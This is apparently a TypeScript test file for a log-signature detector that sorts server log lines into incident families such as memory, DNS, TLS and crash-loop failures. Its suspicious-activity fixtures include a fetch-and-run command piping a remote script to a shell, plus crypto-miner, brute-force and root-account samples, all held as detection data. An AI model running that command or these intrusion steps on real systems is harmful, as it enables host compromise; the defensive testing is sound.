import { describe, expect, it } from 'vitest';
import type { Change, Evidence } from '../../../src/domain/evidence.ts';
import {
  abnormal,
  detectSignals,
  evidenceLines,
  LOG_SIGNATURES,
  type LogSignatureId,
  RESTART_BLOCKING,
  SIGNAL_LABELS,
  type SignalId,
} from '../../../src/operator/decision/signals/index.ts';

const NOW = new Date('2024-05-14T12:00:00.000Z');
const OPTIONS = { thresholdPercent: 90, now: NOW };

let seq = 0;
function source(tool: Evidence['source']['tool'], subject: string): Evidence['source'] {
  return { tool, subject, backend: 'test', at: NOW.toISOString() };
}
function logs(lines: string[], subject = 'app-01'): Evidence {
  seq++;
  return {
    id: `E${seq}`,
    source: source('fetch_recent_logs', subject),
    summary: `${lines.length} lines`,
    data: { kind: 'logs', lines, truncated: false },
  };
}
function health(
  cpu: number,
  memory: number,
  status: 'healthy' | 'warning' | 'critical' | 'error' | 'down',
  subject = 'app-01',
): Evidence {
  seq++;
  return {
    id: `E${seq}`,
    source: source('get_server_health', subject),
    summary: 'health',
    data: { kind: 'health', cpu, memory, status },
  };
}
function changes(service: string, minutesAgo: number, description = 'deploy v2'): Evidence {
  seq++;
  const change: Change = {
    service,
    at: new Date(NOW.getTime() - minutesAgo * 60_000).toISOString(),
    description,
  };
  return {
    id: `E${seq}`,
    source: source('list_recent_changes', service),
    summary: 'changes',
    data: { kind: 'changes', changes: [change] },
  };
}

const idsIn = (lines: string[]): SignalId[] =>
  detectSignals([logs(lines)], OPTIONS).map((s) => s.id);

/** Real lines from real systems, each of which must be recognised as its family. */
const REPRESENTATIVE: Record<LogSignatureId, string[]> = {
  resource_exhaustion: [
    '[WARN] CPU threshold exceeded 90%',
    '[WARN] Thread pool exhaustion',
    '2024/05/14 12:00:01 [crit] 31#31: accept4() failed (24: Too many open files)',
    'HikariPool-1 - Connection is not available, request timed out after 30000ms.',
    'java.lang.OutOfMemoryError: unable to create native thread: possibly out of memory',
  ],
  hung_process: [
    '[CRITICAL] Process hung, not accepting new connections',
    '[ERROR] Timeout waiting for thread',
    '[2024-05-14 10:03:44 +0000] [1] [CRITICAL] WORKER TIMEOUT (pid:807)',
    'Found one Java-level deadlock: "pool-4-thread-2" waiting to lock monitor 0x00007f3a',
    '{"level":"warn","msg":"event loop blocked for 4312ms"}',
    'kernel: INFO: task java:2231 blocked for more than 120 seconds.',
  ],
  out_of_memory: [
    '[ERROR] java.lang.OutOfMemoryError: Java heap space',
    '[CRITICAL] Application crashing due to memory leak',
    'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory',
    'kernel: Out of memory: Killed process 23114 (java) total-vm:12582912kB',
    'fork/exec /usr/bin/git: cannot allocate memory',
  ],
  dependency_failure: [
    '[ERROR] Connection refused: elastic-cluster-main:9200',
    '[CRITICAL] Dependency Unreachable: Search Engine is down',
    '{"level":"error","msg":"connect ECONNREFUSED 10.0.3.12:5432"}',
    'connect() failed (111: Connection refused) while connecting to upstream, client: 198.51.100.7',
    "CircuitBreaker 'stripe-api' is OPEN and does not permit further calls",
    'org.postgresql.util.PSQLException: Connection to shop-db-01:5432 refused.',
  ],
  dns_failure: [
    '[ERROR] getaddrinfo ENOTFOUND rabbitmq.internal.example.com',
    'level=error msg="dial tcp: lookup kafka-0.kafka.svc.cluster.local on 10.96.0.10:53: no such host"',
    '[ERROR] Temporary failure in name resolution',
    'java.net.UnknownHostException: payments.internal: Name or service not known',
  ],
  disk_full: [
    '[ERROR] write /var/log/archive/app.log: No space left on device',
    '[ERROR] Failed to flush buffer: ENOSPC',
    '[WARN] Filesystem /var/log at 99% used',
  ],
  storage_failure: [
    'kernel: blk_update_request: I/O error, dev sdb, sector 41129984',
    'kernel: EXT4-fs (sdb1): Remounting filesystem read-only',
    "upload failed: EROFS: read-only file system, open '/data/uploads/8812.bin'",
  ],
  tls_failure: [
    '[ERROR] x509: certificate has expired or is not yet valid',
    'SSL_do_handshake() failed (SSL: error:0A000086:SSL routines::certificate verify failed)',
    '[WARN] certificate for smtp.example.com expires in 6 days',
    'sun.security.validator.ValidatorException: PKIX path building failed',
  ],
  auth_failure: [
    'FATAL:  password authentication failed for user "reporting_ro"',
    '[ERROR] twilio: HTTP 401 Unauthorized - Authenticate (code 20003)',
    "[ERROR] Access denied for user 'app'@'10.0.0.5' (using password: YES)",
    '[ERROR] GitHub API returned 401 {"message":"Bad credentials"}',
    '[ERROR] service account token has expired',
    'GSSException: Failure unspecified at GSS-API level (Mechanism level: Clock skew too great (37))',
  ],
  suspicious_activity: [
    '[WARN] Unknown process /tmp/.x11-cache/xmrig using 380% CPU',
    '[WARN] Unexpected outbound connection to 198.51.100.23:3333',
    'sshd[22811]: Failed password for invalid user admin from 45.155.205.3 port 51234 ssh2',
    'a2="curl -s http://203.0.113.77/x.sh | sh"',
    'useradd[3312]: new user: name=sysupdate, UID=0, GID=0, home=/root',
    '[CRITICAL] DLP: possible data exfiltration of personal data detected',
  ],
  data_integrity: [
    '[ERROR] Replication lag 1840s: replica inventory-db-13 is behind',
    '[ERROR] Checksum mismatch on page 88412 in table stock_levels',
    'WARNING:  page verification failed, calculated checksum 21043 but expected 47713',
    'ERROR:  requested WAL segment 000000010000003A0000001F has already been removed',
    '[Repl] Error running query, replica SQL thread aborted.',
    'Cluster health status changed from [YELLOW] to [RED] (reason: [shards failed]).',
  ],
  application_errors: [
    "[ERROR] TypeError: Cannot read properties of undefined (reading 'currency')",
    '[ERROR] POST /checkout returned HTTP 500',
    "Error: Cannot find module '/app/dist/index.js'",
    'java.lang.NullPointerException: Cannot invoke "com.acme.Cart.getItems()"',
    '198.51.100.7 - - [14/May/2024:12:00:03 +0000] "GET /api/products HTTP/1.1" 502 157',
    'kernel: imgproc[2231]: segfault at 0 ip 00007f3c1a2b4e10 error 4 in libvips.so.42',
  ],
  crash_loop: [
    'Back-off restarting failed container notifier in pod notifier-5f8c7d9b6-x2x9q',
    'Status: CrashLoopBackOff',
    'systemd[1]: recs.service: Start request repeated too quickly.',
    'systemd[1]: recs.service: Scheduled restart job, restart counter is at 7.',
  ],
  traffic_surge: [
    '[error] 22#22: *1002 limiting requests, excess: 20.460 by zone "perip", client: 203.0.113.9',
    '[WARN] traffic spike: request rate 9x baseline',
  ],
  authorization_failure: [
    'botocore.exceptions.ClientError: An error occurred (AccessDenied) when calling the PutObject operation: Access Denied',
    'ERROR:  permission denied for table invoices',
    'pods is forbidden: User "system:serviceaccount:ci:deployer" cannot list resource "pods" in API group "" in the namespace "prod"',
  ],
  config_error: [
    "/entrypoint.sh: line 14: syntax error near unexpected token `fi'",
    'nginx: [emerg] unknown directive "proxy_passs" in /etc/nginx/conf.d/app.conf:12',
    'Warning  Failed  kubelet  Error: configmap "app-config" not found',
  ],
  image_pull_failure: [
    'Warning  Failed  kubelet  Failed to pull image "registry.example.com/api:v2.3.9": not found',
    'Normal   BackOff  kubelet  Back-off pulling image "registry.example.com/api:v2.3.9"',
  ],
  scheduling_failure: [
    'Warning  FailedScheduling  default-scheduler  0/3 nodes are available: 3 Insufficient memory.',
  ],
  node_pressure: [
    'Warning  Evicted  kubelet  The node was low on resource: ephemeral-storage.',
    'MemoryPressure   True    Tue, 14 May 2024 10:00:00 +0000   KubeletHasInsufficientMemory',
  ],
  throttling: [
    'alertname=CPUThrottlingHigh pod=api-7d9f container=api severity=info',
    'botocore.exceptions.ClientError: An error occurred (ThrottlingException) when calling the PutRecord operation: Rate exceeded',
  ],
  probe_failure: [
    'Warning  Unhealthy  kubelet  Readiness probe failed: HTTP probe failed with statuscode: 503',
    'Liveness probe failed: Get "http://10.244.1.7:8080/healthz": context deadline exceeded',
  ],
  process_crashed: [
    'systemd[1]: billing.service: Main process exited, code=killed, status=9/KILL',
    'Last State:     Terminated   Reason: Error   Exit Code: 1',
  ],
  latency: [
    '2024-05-14 10:00:01.118 UTC [4411] LOG:  duration: 5123.456 ms  statement: SELECT * FROM orders',
    '[WARN] slow request GET /search?q=boots took 2412ms',
  ],
  change_in_logs: [
    '2024/05/14 10:00:00 [notice] 1#1: signal 1 (SIGHUP) received from 4411, reconfiguring',
    'Normal  ScalingReplicaSet  deployment-controller  Scaled up replica set api-6b7c9 to 3',
  ],
};

/** Lines that say nothing is wrong, or that are routine noise: none may raise a signature. */
const BENIGN = [
  '[INFO] Health check: OK',
  '[INFO] Token validated user_882',
  '[INFO] Request received /pay/v1',
  '[INFO] Backup started',
  '[INFO] Backup completed successfully',
  '[INFO] User query executed in 12ms',
  '[INFO] Replication sync active',
  '[INFO] Restarting context...',
  '[INFO] GET /home 200 OK',
  '[INFO] GET /login 200 OK',
  '[INFO] Health check passed',
  '[INFO] Indexing started',
  '[INFO] Service started',
  '2024-05-14 11:02:11.412 UTC [2231] LOG:  checkpoint starting: time',
  '10.1.2.3 - - [14/May/2024:19:01:02 +0000] "GET /products HTTP/1.1" 200 18211 "-" "Mozilla/5.0"',
  '[INFO] Session token expired for user_5, redirecting to login',
  '[INFO] Connection reset by peer (client closed the connection)',
  '2024-05-14 10:00:00.118 UTC [4412] LOG:  could not receive data from client: Connection reset by peer',
  '{"level":"info","msg":"login failed for user bob: wrong password"}',
  '[INFO] Memory leak detector: no leaks found',
  '[INFO] GC pause 12ms',
  '[INFO] Scheduled job fx-sync finished',
  '[DEBUG] cache miss key=user:42',
  '[INFO] Evicted 0 keys in the last minute',
  '[INFO] certificate renewed, valid for 90 days',
  '[INFO] Worker exiting (pid: 807)',
  '[INFO] nightly-aggregate: processed 41,000,000 rows (62%)',
];

describe('log signatures', () => {
  it('cover every signature family with representative lines', () => {
    expect(Object.keys(REPRESENTATIVE).sort()).toEqual(LOG_SIGNATURES.map((s) => s.id).sort());
  });

  for (const [family, lines] of Object.entries(REPRESENTATIVE)) {
    it.each(lines)(`${family}: detected in %s`, (line) => {
      expect(idsIn([line])).toContain(family);
    });
  }

  it.each(BENIGN)('no signature on a benign line: %s', (line) => {
    expect(idsIn([line])).toEqual([]);
  });

  it('do not take a database transaction deadlock for a hung process', () => {
    expect(
      idsIn([
        '2024-05-14 10:00:01 UTC [881] ERROR:  deadlock detected',
        'DETAIL:  Process 881 waits for ShareLock',
      ]),
    ).not.toContain('hung_process');
  });

  it('tell an HTTP client I/O error (a dependency) from a disk I/O error', () => {
    const spring =
      'org.springframework.web.client.ResourceAccessException: I/O error on POST request for "http://payments/api": Connection refused';
    expect(idsIn([spring])).toEqual(['dependency_failure']);
    expect(idsIn(['Buffer I/O error on dev sdb1, logical block 88412'])).toEqual([
      'storage_failure',
    ]);
  });

  it('ignore routine-level lines only for the families that are routine noise', () => {
    expect(idsIn(['[INFO] Connection reset by peer'])).toEqual([]);
    expect(idsIn(['[ERROR] Connection reset by peer'])).toContain('dependency_failure');
    expect(idsIn(['level=info msg="authentication failed for user bob"'])).toEqual([]);
    expect(idsIn(['level=error msg="authentication failed for user app"'])).toContain(
      'auth_failure',
    );
    // sshd logs brute force at info level: security signatures never skip routine lines.
    expect(
      idsIn(['[INFO] sshd[22811]: Failed password for invalid user admin from 45.155.205.3']),
    ).toContain('suspicious_activity');
  });

  it('cite the first matching line of each family as the detail', () => {
    const [signal] = detectSignals(
      [
        logs([
          '[INFO] Indexing started',
          '[ERROR] Connection refused: es:9200',
          '[ERROR] ECONNREFUSED',
        ]),
      ],
      OPTIONS,
    );
    expect(signal).toMatchObject({
      id: 'dependency_failure',
      subject: 'app-01',
      detail: '[ERROR] Connection refused: es:9200',
    });
  });

  it('all have labels, and every blocking id is a real signal', () => {
    for (const s of LOG_SIGNATURES) expect(SIGNAL_LABELS[s.id]).toBe(s.label);
    for (const id of RESTART_BLOCKING) expect(SIGNAL_LABELS[id]).toBeTruthy();
    for (const id of [
      'dependency_failure',
      'dns_failure',
      'disk_full',
      'storage_failure',
      'crash_loop',
      'traffic_surge',
      'bad_deploy',
      'suspicious_activity',
    ] as const)
      expect(RESTART_BLOCKING.has(id)).toBe(true);
    for (const id of ['hung_process', 'out_of_memory', 'resource_exhaustion', 'high_cpu'] as const)
      expect(RESTART_BLOCKING.has(id)).toBe(false);
  });
});

describe('health signals', () => {
  const ids = (e: Evidence) => detectSignals([e], OPTIONS).map((s) => s.id);

  it('flag CPU and memory at the threshold, not below it', () => {
    expect(ids(health(90, 10, 'healthy'))).toEqual(['high_cpu']);
    expect(ids(health(89, 89, 'healthy'))).toEqual([]);
    expect(ids(health(10, 95, 'healthy'))).toEqual(['high_memory']);
  });

  it('tell a down server from an unhealthy one', () => {
    expect(ids(health(0, 0, 'down'))).toEqual(['server_down']);
    expect(detectSignals([health(10, 10, 'warning')], OPTIONS)[0]).toMatchObject({
      id: 'unhealthy_status',
      detail: 'status warning',
    });
  });
});

describe('changes', () => {
  const serviceOf = new Map([['checkout-01', 'checkout']]);

  it('a recent change alone is not abnormal', () => {
    const signals = detectSignals([changes('checkout', 10)], { ...OPTIONS, serviceOf });
    expect(signals.map((s) => s.id)).toEqual(['recent_change']);
    expect(abnormal(signals)).toEqual([]);
  });

  it('a change older than two hours is not recent', () => {
    expect(detectSignals([changes('checkout', 180)], OPTIONS)).toEqual([]);
  });

  it('a recent change followed by application errors on its servers is a bad deploy', () => {
    const signals = detectSignals(
      [
        changes('checkout', 12, 'deploy checkout v3.8.0'),
        logs(['TypeError: x is not a function'], 'checkout-01'),
      ],
      { ...OPTIONS, serviceOf },
    );
    const deploy = signals.find((s) => s.id === 'bad_deploy');
    expect(deploy?.subject).toBe('checkout-01');
    expect(deploy?.detail).toContain('deploy checkout v3.8.0');
  });

  it('a change to another service does not make errors a bad deploy', () => {
    const signals = detectSignals(
      [changes('payments', 12), logs(['TypeError: x is not a function'], 'checkout-01')],
      { ...OPTIONS, serviceOf },
    );
    expect(signals.map((s) => s.id)).not.toContain('bad_deploy');
  });

  it('a recent deploy with saturation but no application errors is not a bad deploy', () => {
    const signals = detectSignals(
      [
        changes('checkout', 15),
        logs(['[WARN] CPU threshold exceeded 90%', '[CRITICAL] Process hung'], 'checkout-01'),
      ],
      { ...OPTIONS, serviceOf },
    );
    expect(signals.map((s) => s.id)).not.toContain('bad_deploy');
  });
});

describe('evidenceLines: the one text input of log-signature detection', () => {
  it('gives the lines of logs, capped at 500 characters, and nothing for readings', () => {
    const long = `[ERROR] ${'x'.repeat(600)} no space left on device`;
    const e = logs(['[ERROR] Connection refused: es:9200', long]);
    const lines = evidenceLines(e);
    expect(lines[0]).toBe('[ERROR] Connection refused: es:9200');
    expect(lines[1]).toHaveLength(500);
    expect(evidenceLines(health(99, 99, 'critical'))).toEqual([]);
    expect(evidenceLines(changes('checkout', 5))).toEqual([]);
    // What lies past the cap is never read: the disk-full words are cut off.
    expect(detectSignals([e], OPTIONS).map((s) => s.id)).toEqual(['dependency_failure']);
  });
});
